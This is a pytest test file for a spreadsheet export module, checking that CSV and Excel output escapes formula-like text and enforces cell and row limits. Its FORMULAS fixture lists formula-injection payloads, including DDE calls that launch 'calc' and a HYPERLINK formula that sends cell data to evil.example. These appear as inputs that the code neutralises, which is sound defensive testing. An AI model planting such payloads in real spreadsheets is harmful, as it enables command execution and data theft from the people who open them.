"""Tables as spreadsheets: what each dialect writes, and what a workbook has no room for."""

import csv
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from release import spreadsheet
from release.spreadsheet import DIALECTS, NotForExcel, write_csv, write_workbook

FORMULAS = {  # as delivered, as written
    "=1+1": "'=1+1",
    "+49 231": "'+49 231",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")': '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "\tx": "'\tx",
    "\rx": "'\rx",
    "\nx": "'\nx",
    "\t=x": "'\t'=x",
    "\uff1dx": "'\uff1dx",
    "\uff0bx": "'\uff0bx",
    "\uff0dx": "'\uff0dx",
    "\uff20x": "'\uff20x",
    "\ufe66x": "'\ufe66x",
    " =x": "' =x",
    "\u00a0=x": "'\u00a0=x",
    "\u200b\ufeff=x": "'\u200b\ufeff=x",
    "a\n=x": "a\n'=x",
    "a\r\n@x\n\n-x": "a\r\n'@x\n\n'-x",
    "a\u2028=x": "a\u2028'=x",
    "a;=x": "a;'=x",
    "a, +x": "a,' +x",
    "a\t=x": "a\t'=x",
    "=": "'=",
    "'=x": "''=x",
    "a\n''=x": "a\n'''=x",
}
HARMLESS = ["", "a", "'", "'a", "a=1", "a - b", "a@b", "a\nb", "Wege; Pl\u00e4tze", "1-2", "\u2013 x"]


def mart(folder: Path, **columns: list[Any]) -> Path:
    path = folder / "mart.parquet"
    pq.write_table(pa.table(columns), path)
    return path


@pytest.mark.parametrize(
    ("dialect", "expected"),
    [
        ("plain", b"note,value,n\na,-1.5,1000\n'=1,,\n"),
        ("de", b"\xef\xbb\xbfnote;value;n\na;-1,5;1000\n'=1;;\n"),
    ],
)
def test_numbers_and_texts_of_a_dialect(tmp_path: Path, dialect: str, expected: bytes) -> None:
    source = mart(tmp_path, note=["a", "=1"], value=[-1.5, None], n=[1000, None])
    write_csv(source, tmp_path / "out.csv", DIALECTS[dialect])
    assert (tmp_path / "out.csv").read_bytes() == expected


@pytest.mark.attack(
    "a formula in a delivered text, at its beginning or after a line break · written as text, numbers untouched"
)
@pytest.mark.parametrize("dialect", sorted(DIALECTS))
def test_a_formula_is_a_text_in_a_csv(tmp_path: Path, dialect: str) -> None:
    source = mart(tmp_path, note=[*FORMULAS, *HARMLESS], value=[-1.5] * (len(FORMULAS) + len(HARMLESS)))
    write_csv(source, tmp_path / "out.csv", DIALECTS[dialect])
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        _, *rows = csv.reader(handle, delimiter=DIALECTS[dialect].separator)
    assert [row[0] for row in rows] == [*FORMULAS.values(), *HARMLESS]
    assert {row[1] for row in rows} == {"-1" + DIALECTS[dialect].decimal + "5"}


@pytest.mark.attack("a formula in a delivered text, at its beginning or after a line break · a text in a workbook too")
def test_a_formula_is_a_text_in_a_workbook(tmp_path: Path) -> None:
    delivered = {text: written for text, written in FORMULAS.items() if "\r" not in text}  # XML ends lines by \n
    write_workbook(mart(tmp_path, note=[*delivered], value=[-1.5] * len(delivered)), tmp_path / "out.xlsx", "mart", [])
    _, *rows = load_workbook(tmp_path / "out.xlsx")["mart"].iter_rows()
    assert [row[0].value for row in rows] == [*delivered.values()]
    assert {row[0].data_type for row in rows} == {"s"}
    assert {(row[1].value, row[1].data_type) for row in rows} == {(-1.5, "n")}


@pytest.mark.parametrize("text", [*FORMULAS, *FORMULAS.values(), *HARMLESS])
def test_what_was_put_in_can_be_taken_out_as_the_guide_says(tmp_path: Path, text: str) -> None:
    write_csv(mart(tmp_path, note=[text]), tmp_path / "out.csv", DIALECTS["plain"])
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        _, (written,) = csv.reader(handle)
    sign = "[=+@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b-]"
    read = re.sub(r"^'(?='*[\t\n\r])", "", written)
    read = re.sub(rf"((?:^|[\t\n\r;,\u2028]))'(?='*[ \u00a0\u200b\ufeff]*{sign})", r"\1", read)
    assert read == text


def test_a_workbook_holds_every_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "_BLOCK", 2)
    write_workbook(mart(tmp_path, note=["a", "-", None], n=[1, 2, 3]), tmp_path / "out.xlsx", "x" * 40, ["note"])
    book = load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["x" * 31, "Hinweise"], "a sheet's name has room for 31 characters"
    assert list(book["x" * 31].values) == [("note", "n"), ("a", 1), ("'-", 2), (None, 3)]
    assert list(book["Hinweise"].values) == [("note",)]


@pytest.mark.parametrize(
    ("text", "fits"),
    [("x" * 32_767, True), ("x" * 32_768, False), ("=" + "x" * 32_766, False), ("bell\x07", False)],
)
def test_a_text_a_cell_cannot_hold_is_refused_before_anything_is_written(tmp_path: Path, text: str, fits: bool) -> None:
    source = mart(tmp_path, n=[1], note=[text])
    if fits:
        write_workbook(source, tmp_path / "out.xlsx", "mart", [])
        return
    with pytest.raises(NotForExcel, match="Column note"):
        write_workbook(source, tmp_path / "out.xlsx", "mart", [])
    assert not (tmp_path / "out.xlsx").exists()


@pytest.mark.parametrize(("rows", "fits"), [(2, True), (3, False)])
def test_a_table_longer_than_a_sheet_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows: int, fits: bool
) -> None:
    assert spreadsheet.EXCEL_ROWS == 1_048_576
    monkeypatch.setattr(spreadsheet, "EXCEL_ROWS", 3)  # one row is the header's
    source = mart(tmp_path, n=list(range(rows)))
    if fits:
        write_workbook(source, tmp_path / "out.xlsx", "mart", [])
    else:
        with pytest.raises(NotForExcel, match="3 rows"):
            write_workbook(source, tmp_path / "out.xlsx", "mart", [])
